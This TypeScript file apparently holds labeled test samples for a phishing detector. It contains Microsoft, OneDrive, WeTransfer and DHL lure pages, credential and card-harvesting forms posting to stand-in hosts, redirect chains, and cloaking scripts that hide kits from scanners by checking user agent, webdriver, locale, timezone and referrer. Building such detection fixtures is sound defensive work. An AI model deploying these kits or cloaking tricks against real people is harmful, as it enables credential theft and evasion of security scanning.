import { htmlRoute, redirectRoute, type Entry } from '../entry.js';

/**
 * Lure pages (fake invoice / voicemail / shared-file pages that link onwards to a kit), cloaked kits
 * (user-agent / locale / referrer checks in script), and redirect chains (http 30x, meta refresh, JS).
 */
const kitBody = (title: string, brand: string, action: string): string => `<!DOCTYPE html><html><head><meta charset="utf-8"><title>${title}</title></head>
<body style="font-family:Segoe UI,Arial;background:#f2f2f2"><div style="width:420px;margin:80px auto;background:#fff;padding:40px"><b>${brand}</b><h2>Sign in</h2>
<form method="post" action="${action}"><input type="email" name="username" placeholder="Email"><input type="password" name="password" placeholder="Password"><button>Sign in</button></form></div></body></html>`;

export const entries: Entry[] = [
  {
    id: 'lure-voicemail-link',
    label: 'phishing',
    kind: 'lure',
    url: 'https://vm-notification-center.com/msg/55120',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>New Voicemail</title></head>
<body style="font-family:Segoe UI;background:#f4f6f8"><div style="width:480px;margin:60px auto;background:#fff;padding:30px;border-radius:6px">
<h2>📞 You have a new voice message</h2><table><tr><td>From:</td><td>+1 (312) 555-0147</td></tr><tr><td>Duration:</td><td>00:01:12</td></tr><tr><td>Received:</td><td>Tue 25 Nov 2026 09:14</td></tr></table>
<p>Your organisation's voicemail service requires you to sign in with your Microsoft 365 account to play this message.</p>
<a href="https://login-m365-voicemail.secure-audio-play.net/common/oauth2/authorize?msg=55120" style="background:#0078d4;color:#fff;padding:12px 30px;text-decoration:none;display:inline-block">▶ Play Message</a></div></body></html>`,
  },
  {
    id: 'lure-invoice-onedrive',
    label: 'phishing',
    kind: 'lure',
    url: 'https://invoice-pending-ap.sharepoint-files.site/Shared%20Documents/INV-44021',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>INV-44021.pdf - OneDrive</title></head>
<body style="font-family:Segoe UI;margin:0"><div style="background:#0364b8;color:#fff;padding:12px 20px">OneDrive</div>
<div style="text-align:center;padding:60px"><img src="pdf-icon.png" alt="PDF" width="96"><h2>INV-44021.pdf</h2><p>Northwind Traders shared a file with you. This link only works for the direct recipients of this message.</p>
<a href="https://auth-onedrive-secure.doc-viewer.pro/?file=INV-44021&amp;e=" onclick="this.href+=encodeURIComponent(location.hash.slice(1))" style="background:#0364b8;color:#fff;padding:10px 24px;text-decoration:none">Open</a>
<p style="font-size:12px;color:#666">Microsoft respects your privacy. To learn more, please read our Privacy Statement.</p></div></body></html>`,
  },
  {
    id: 'lure-wetransfer-page',
    label: 'phishing',
    kind: 'lure',
    url: 'https://wetransfer.download-files.link/downloads/8bc4d2e1f0a9',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>WeTransfer</title></head>
<body style="font-family:Arial;background:url(bg-wetransfer.jpg) center/cover"><div style="width:340px;margin:80px 60px;background:#fff;border-radius:10px;padding:30px">
<h3>Ready when you are</h3><p>3 files, 48.2 MB total · Expires in 6 days</p><ul><li>Purchase_Order_PO-7731.pdf</li><li>Drawings_rev3.dwg</li><li>Quote.xlsx</li></ul>
<a href="https://wt-auth.files-verify.online/signin?ref=8bc4d2e1f0a9" style="display:block;background:#409fff;color:#fff;text-align:center;padding:14px;border-radius:25px;text-decoration:none">Download</a></div></body></html>`,
  },
  {
    id: 'lure-qr-code-mfa',
    label: 'phishing',
    kind: 'lure',
    url: 'https://it-helpdesk-mfa-enroll.com/',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Action required: MFA re-enrollment</title></head>
<body style="font-family:Segoe UI"><div style="width:500px;margin:50px auto;text-align:center"><h2>Multi-factor authentication re-enrollment</h2><p>Your Microsoft Authenticator registration expires today. Scan the QR code with your phone camera to re-enroll.</p>
<img alt="QR code" width="200" height="200" src="data:image/svg+xml;utf8,&lt;svg xmlns='http://www.w3.org/2000/svg' width='200' height='200'&gt;&lt;rect width='200' height='200' fill='%23fff'/&gt;&lt;rect x='10' y='10' width='50' height='50'/&gt;&lt;rect x='140' y='10' width='50' height='50'/&gt;&lt;rect x='10' y='140' width='50' height='50'/&gt;&lt;/svg&gt;">
<p>Or open this link on your phone: <a href="https://mfa-enroll.login-ms-verify.com/r/5521">mfa-enroll.login-ms-verify.com/r/5521</a></p><p style="font-size:12px">IT Service Desk</p></div></body></html>`,
  },
  {
    id: 'cloak-ua-check-js',
    label: 'phishing',
    kind: 'cloaked-kit',
    url: 'https://www.sunnyvale-pet-grooming.com/gallery/index.php',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Gallery | Sunnyvale Pet Grooming</title></head>
<body><h1>Our happy clients</h1><p>Photos of dogs and cats after grooming.</p>
<script>
(function () {
  var ua = navigator.userAgent.toLowerCase();
  var bots = ['googlebot', 'bingbot', 'headless', 'phantom', 'curl', 'python', 'scanner', 'urlscan', 'virustotal', 'lighthouse'];
  if (bots.some(function (b) { return ua.indexOf(b) !== -1; }) || navigator.webdriver) return;
  if (!/^(en|de)/.test(navigator.language)) return;
  document.title = 'Sign in to your account';
  document.body.innerHTML = '<div style="font-family:Segoe UI;width:440px;margin:90px auto;padding:44px;background:#fff"><b>Microsoft</b><h2>Sign in</h2><form method="post" action="/gallery/inc/p.php"><input type="email" name="loginfmt" placeholder="Email, phone, or Skype"><input type="password" name="passwd" placeholder="Password"><button>Sign in</button></form></div>';
})();
</script></body></html>`,
  },
  {
    id: 'cloak-timezone-geo',
    label: 'phishing',
    kind: 'cloaked-kit',
    url: 'https://cdn-static-assets.pages-host.dev/p/1f9e/',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>404 Not Found</title></head>
<body><h1>Not Found</h1><p>The requested URL was not found on this server.</p>
<script>
const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;
const ok = ['America/New_York', 'America/Chicago', 'America/Los_Angeles', 'America/Denver'].includes(tz) && screen.width > 800 && !navigator.webdriver;
if (ok) {
  fetch('https://cdn-static-assets.pages-host.dev/p/1f9e/gate?tz=' + encodeURIComponent(tz)).then((r) => r.text()).then((html) => { document.open(); document.write(html); document.close(); });
}
</script></body></html>`,
  },
  {
    id: 'cloak-referrer-token',
    label: 'phishing',
    kind: 'cloaked-kit',
    url: 'https://secure-docs-share.org/x/?t=c2FsZXNAZmFicmlrYW0uY29t',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Welcome</title></head>
<body style="font-family:Arial"><h2>Welcome to our site</h2><p>Nothing to see here.</p>
<script>
var t = new URLSearchParams(location.search).get('t');
var email = t ? atob(t) : '';
if (email.indexOf('@') > 0 && document.referrer.indexOf('outlook') === -1 && !/HeadlessChrome/.test(navigator.userAgent)) {
  document.body.innerHTML = '<div style="width:400px;margin:60px auto"><img src="https://logo.clearbit.com/' + email.split('@')[1] + '" alt="logo"><h3>' + email + '</h3><p>Enter your password to view the shared document</p><form method="post" action="https://secure-docs-share.org/x/s.php"><input type="hidden" name="e" value="' + email + '"><input type="password" name="p" placeholder="Password"><button>Next</button></form></div>';
}
</script></body></html>`,
  },
  {
    id: 'redirect-http-chain-kit',
    label: 'phishing',
    kind: 'redirect-chain',
    url: 'https://t.mail-tracking-links.net/c/8811ab',
    routes: {
      't.mail-tracking-links.net/c/8811ab': redirectRoute(302, 'https://go.short-redirect.info/Xk92'),
      'go.short-redirect.info/Xk92': redirectRoute(301, 'https://login.microsoft-account-verify.info/common/login'),
      'login.microsoft-account-verify.info/common/login': htmlRoute(kitBody('Sign in to your Microsoft account', 'Microsoft', '/common/post.php')),
    },
  },
  {
    id: 'redirect-open-redirect-abuse',
    label: 'phishing',
    kind: 'redirect-chain',
    url: 'https://www.google-ads-redirect.com/url?q=https://dhl-express-track.parcel-hold.com/pay&sa=D',
    routes: {
      'www.google-ads-redirect.com/url': redirectRoute(302, 'https://dhl-express-track.parcel-hold.com/pay'),
      'dhl-express-track.parcel-hold.com/pay': htmlRoute(`<!DOCTYPE html><html><head><meta charset="utf-8"><title>DHL Express - Payment</title></head><body style="font-family:Arial"><h2 style="color:#d40511">DHL Express</h2><p>Your package is held at customs. Pay €2.49 to release.</p><form action="pay.php" method="post"><input name="cardholder" placeholder="Cardholder"><input name="cardnumber" placeholder="Card number"><input name="expiry" placeholder="MM/YY"><input name="cvv" placeholder="CVV"><button>Pay</button></form></body></html>`),
    },
  },
];
